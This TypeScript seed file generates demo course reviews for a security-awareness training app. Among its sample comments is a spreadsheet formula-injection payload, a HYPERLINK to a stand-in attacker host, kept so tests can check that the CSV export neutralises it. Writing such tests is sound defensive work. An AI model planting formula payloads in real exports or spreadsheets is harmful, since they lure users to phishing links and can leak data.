import type * as s from './schema.ts'

// Globex's training reviews (spec 2 §2 /reviews): most learners who finished the annual training rated
// it, and some rated two courses of an earlier year. Deterministic by position, so tests can count them.
// A few comments are what a spreadsheet would run as a formula: the CSV export must neutralise them.

export const REVIEW_SEED = {
	/** The earlier year's courses that Globex learners reviewed (no campaign of theirs is kept). */
	earlierCourses: ['crs_phishing', 'crs_passwords'],
	/** Of the annual campaign's completed assignments (in assignment order), those at i % 10 < 7 reviewed it. */
	annualShare: 7,
	/** Learners (Globex's, in seed order from the first) who rated each earlier course. */
	earlierReviewers: 24,
	/** A comment a spreadsheet would run: the e2e checks its CSV cell. */
	formulaComment: '=HYPERLINK("https://attacker.test/steal","Click for your bonus")',
} as const

/** Ratings cycle through this pattern: mostly 4s and 5s, a few low ones. */
const RATINGS = [5, 4, 5, 3, 4, 5, 2, 4, 5, 1, 4, 5, 3] as const

const COMMENTS = [
	'Clear and practical, I learned how to spot a fake invoice.',
	'',
	'Too long for what it teaches.',
	'The quiz questions were tricky but fair.',
	'',
	REVIEW_SEED.formulaComment,
	'Great examples from real attacks.',
	'+1, the video on passphrases was the best part',
	'',
	'@IT please make this shorter next year',
	'-- the audio was too quiet in chapter 2',
	'Useful reminder, short and to the point.',
	'קורס מצוין, מומלץ לכולם',
	'',
	'Would like more content about phone scams.',
	'Das Quiz war hilfreich.',
	'I finally understand multi-factor authentication.',
	'',
] as const

type Completed = { userId: string; campaignId: string; completedAt: Date }

/**
 * The reviews: the annual course's from the campaign's completed assignments (a day after completing),
 * then the earlier courses' from the first Globex learners, 60 to 120 days ago.
 */
export function demoTrainingReviews(input: {
	companyId: string
	annualCourseId: string
	annualCompleted: Completed[]
	learnerIds: string[]
	ago: (days: number) => Date
}): (typeof s.trainingReviews.$inferInsert)[] {
	const rows: (typeof s.trainingReviews.$inferInsert)[] = []
	let n = 0
	const next = () => ({ rating: RATINGS[n % RATINGS.length]!, comment: COMMENTS[n++ % COMMENTS.length]! })
	input.annualCompleted.forEach((assignment, i) => {
		if (i % 10 >= REVIEW_SEED.annualShare) return
		rows.push({
			companyId: input.companyId,
			userId: assignment.userId,
			courseId: input.annualCourseId,
			campaignId: assignment.campaignId,
			createdAt: new Date(assignment.completedAt.getTime() + 24 * 60 * 60 * 1000),
			...next(),
		})
	})
	REVIEW_SEED.earlierCourses.forEach((courseId, c) => {
		for (const [i, userId] of input.learnerIds.slice(0, REVIEW_SEED.earlierReviewers).entries()) {
			rows.push({ companyId: input.companyId, userId, courseId, campaignId: null, createdAt: input.ago(120 - c * 30 - i), ...next() })
		}
	})
	return rows
}
